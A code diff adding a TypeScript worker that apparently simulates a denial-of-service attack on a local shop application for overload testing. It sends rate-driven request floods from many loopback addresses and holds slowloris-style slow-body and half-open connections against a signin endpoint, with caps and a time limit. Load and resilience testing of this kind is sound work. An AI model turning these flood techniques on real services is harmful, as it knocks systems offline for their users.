@@ -1,0 +1,96 @@
+import { Agent, request } from 'node:http'
+import { connect, type Socket } from 'node:net'
+import { setPriority } from 'node:os'
+import { setTimeout as pause } from 'node:timers/promises'
+
+import type { FloodPlan, FloodTally } from './flood-plan.ts'
+import { floodRequest } from './flood-requests.ts'
+
+// A process of its own, behind the shop and its shoppers: in life its processors are the attackers' own.
+setPriority(10)
+process.on('disconnect', () => process.exit())
+// as: what overload.ts hands over.
+const plan = JSON.parse(process.argv[2] ?? '') as FloodPlan
+const { hostname, port } = new URL(plan.origin)
+const agent = new Agent({ keepAlive: true, maxSockets: 20 })
+const tally: FloodTally = { sent: 0, heldBack: 0, answers: {} }
+const mostUnanswered = 2_000
+const perSecond = 20
+let unanswered = 0
+
+const addressOf = (index: number) => {
+  const at = index % plan.addresses
+  return `127.0.${1 + Math.floor(at / 250)}.${1 + (at % 250)}`
+}
+
+const until = performance.now() + plan.seconds * 1000
+const slow = [
+  ...Array.from({ length: plan.slowBodies }, (_, index) => holdOpen(index, slowBody)),
+  ...Array.from({ length: plan.halfOpen }, (_, index) => holdOpen(index, 'GET / HTTP/1.1\r\nHo')),
+]
+await sendAll()
+await Promise.all(slow)
+// What is still unanswered is broken off: the flood has an end.
+agent.destroy()
+await new Promise((sent) => {
+  process.send?.(tally, sent)
+})
+process.disconnect?.()
+
+/** As many each second as the plan says, whether or not the shop answers. */
+async function sendAll(): Promise<void> {
+  const began = performance.now()
+  for (let index = 0; performance.now() < until;) {
+    const due = ((performance.now() - began) / 1000) * plan.rate
+    for (; index < due; index += 1) {
+      if (unanswered < mostUnanswered) send(index)
+      else tally.heldBack += 1
+    }
+    await pause(1000 / perSecond)
+  }
+}
+
+function send(index: number): void {
+  const { kind, method, path, headers, body } = floodRequest(plan, index)
+  let isCounted = false
+  const count = (status: number) => {
+    if (isCounted) return
+    isCounted = true
+    unanswered -= 1
+    const ofKind = (tally.answers[kind] ??= {})
+    ofKind[status] = (ofKind[status] ?? 0) + 1
+  }
+  unanswered += 1
+  tally.sent += 1
+  const options = { hostname, port, path, method, headers, agent, localAddress: addressOf(index) }
+  const sent = request(options, (response) => {
+    response.on('error', () => undefined)
+    response.on('close', () => count(response.statusCode ?? 0))
+    response.resume()
+  })
+  sent.on('error', () => count(0))
+  sent.end(body)
+}
+
+function slowBody(socket: Socket): void {
+  socket.write(
+    'POST /api/v1/user/signin HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n',
+  )
+  const drip = setInterval(() => socket.write(' '), 1_000)
+  socket.on('close', () => clearInterval(drip))
+}
+
+/** Keeps one connection that never finishes its request; opens it anew when the shop has ended it. */
+async function holdOpen(index: number, speak: string | ((socket: Socket) => void)): Promise<void> {
+  while (performance.now() < until) {
+    const socket = connect({ host: hostname, port: Number(port), localAddress: addressOf(index) })
+    socket.on('error', () => undefined)
+    socket.on('connect', () => (typeof speak === 'string' ? socket.write(speak) : speak(socket)))
+    socket.resume()
+    const left = Math.max(0, until - performance.now())
+    const ended = new Promise((closed) => socket.on('close', closed))
+    await Promise.race([ended, pause(left)])
+    socket.destroy()
+    await pause(100)
+  }
+}
